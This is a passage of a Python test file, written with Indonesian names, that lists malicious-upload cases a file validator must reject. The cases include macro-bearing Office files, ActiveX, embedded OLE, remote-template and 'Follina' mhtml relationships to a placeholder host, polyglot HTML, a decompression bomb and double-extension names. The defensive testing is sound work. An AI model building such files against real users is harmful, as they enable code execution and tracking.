        lambda: xlsx_dengan(**{"xl/vbaProject.bin": OLE}),
        "bermakro (.xlsm)",
    ),
    "pptm_bermakro": Kasus(
        "paparan.pptm", lambda: ooxml("ppt/presentation.xml", TIPE_PPTM), "bermakro (.pptm)"
    ),
    "dotm_bermakro": Kasus("templat.dotm", lambda: docx(TIPE_DOCM, TIPE_VBA), "bermakro (.dotm)"),
    "xlsx_berisi_makro_vba": Kasus(
        "rekap.xlsx", lambda: xlsx_dengan(**{"xl/vbaProject.bin": OLE}), "xl/vbaProject.bin"
    ),
    "xlsx_bertipe_xlsm": Kasus(
        "rekap.xlsx",
        lambda: ooxml("xl/workbook.xml", TIPE_XLSM),
        TIPE_XLSM,
    ),
    "pptx_berisi_makro_vba": Kasus(
        "paparan.pptx",
        lambda: ooxml("ppt/presentation.xml", TIPE_PPTX, **{"ppt/vbaProject.bin": OLE}),
        "ppt/vbaProject.bin",
    ),
    "pptx_berisi_activex": Kasus(
        "paparan.pptx",
        lambda: ooxml("ppt/presentation.xml", TIPE_PPTX, **{"ppt/activeX/activeX1.xml": "<a/>"}),
        "ppt/activeX/",
    ),
    "ppt_lama": Kasus("paparan.ppt", lambda: OLE, "Format Office lama (.ppt)"),
    "xlsx_sebenarnya_ole_terenkripsi": Kasus("rekap.xlsx", lambda: OLE, "(OLE)"),
    "pdf_sebenarnya_ole": Kasus("laporan.pdf", lambda: OLE, "(OLE)"),
    **{
        f"docx_{nama}_jarak_jauh": Kasus(
            "laporan.docx",
            lambda jenis=jenis, tujuan=tujuan: docx_dengan_relasi((jenis, tujuan, True)),
            f"{jenis} dari luar",
        )
        # Parts Office fetches when the document opens: remote-template injection, "Follina"
        # (an OLE object through mhtml:), a frame, a tracking image.
        for nama, jenis, tujuan in [
            ("templat", "attachedTemplate", "http://x.example/t.dotm"),
            ("objek_ole_follina", "oleObject", "mhtml:http://x.example/!x-usc:y"),
            ("bingkai", "frame", "http://x.example/f.docx"),
            ("gambar_pelacak", "image", "http://x.example/pelacak.png"),
        ]
    },
    "docx_objek_ole_tertanam": Kasus(
        "laporan.docx",
        lambda: docx(**{"word/embeddings/oleObject1.bin": OLE}),
        "objek OLE tertanam (word/embeddings/oleObject1.bin)",
    ),
    "xlsx_objek_ole_tertanam": Kasus(
        "rekap.xlsx",
        lambda: xlsx_dengan(**{"xl/embeddings/oleObject1.bin": OLE}),
        "objek OLE tertanam",
    ),
    "docx_tanpa_indeks_tipe": Kasus(
        "laporan.docx", lambda: _zip({"word/document.xml": _DOKUMEN_WORD}), "ternyata arsip ZIP"
    ),
    "docx_poliglot_html_di_depan": Kasus(
        "laporan.docx", lambda: _zip({"a.txt": "x"}, awal=HTML), "ternyata HTML"
    ),
    "docx_terpotong": Kasus("laporan.docx", lambda: terpotong(docx()), "rusak"),
    "xlsx_bom_dekompresi": Kasus(
        "rekap.xlsx",
        lambda: xlsx_dengan(**{"xl/media/kosong.bin": b"\0" * 100 * MB}),
        "bom dekompresi",
    ),
    "ods_dengan_makro_basic": Kasus(
        "rekap.ods",
        lambda: odf(MIMETYPE_ODF["ods"], **{"Basic/Standard/Module1.xml": "<script:module/>"}),
        "memuat makro",
    ),
    "odp_dengan_skrip_python": Kasus(
        "paparan.odp",
        lambda: odf(MIMETYPE_ODF["odp"], **{"Scripts/python/a.py": "import os"}),
        "Scripts/python/a.py",
    ),
    "odt_dengan_makro_di_gaya": Kasus(
        "daftar.odt",
        lambda: odt(**{"styles.xml": _isi_odt(PERISTIWA_MAKRO)}),
        "styles.xml",
    ),
    "odt_berekstensi_docx": Kasus("daftar.docx", odt, "ternyata arsip ZIP"),
    "nama_ekstensi_ganda_php": Kasus("laporan.php.pdf", pdf, "ekstensi berbahaya (.php)"),
    "nama_ekstensi_ganda_js": Kasus("laporan.js.csv", csv_utf8, "ekstensi berbahaya (.js)"),
    "nama_diawali_titik": Kasus(".laporan.pdf", pdf, "diawali titik"),
    "nama_aliran_data_ntfs": Kasus("laporan.pdf:zone.identifier", pdf, "titik dua"),
    "nama_250_karakter": Kasus("l" * 246 + ".pdf", pdf, "Nama berkas terlalu panjang (250"),
    "nama_tanpa_ekstensi": Kasus("laporan", pdf, "Format berkas"),
    "program_html": Kasus("halaman.html", lambda: HTML, "Format berkas .html tidak diterima"),
    "arsip_zip": Kasus("lampiran.zip", lambda: ZIP_KECIL, "Format berkas .zip tidak diterima"),
}
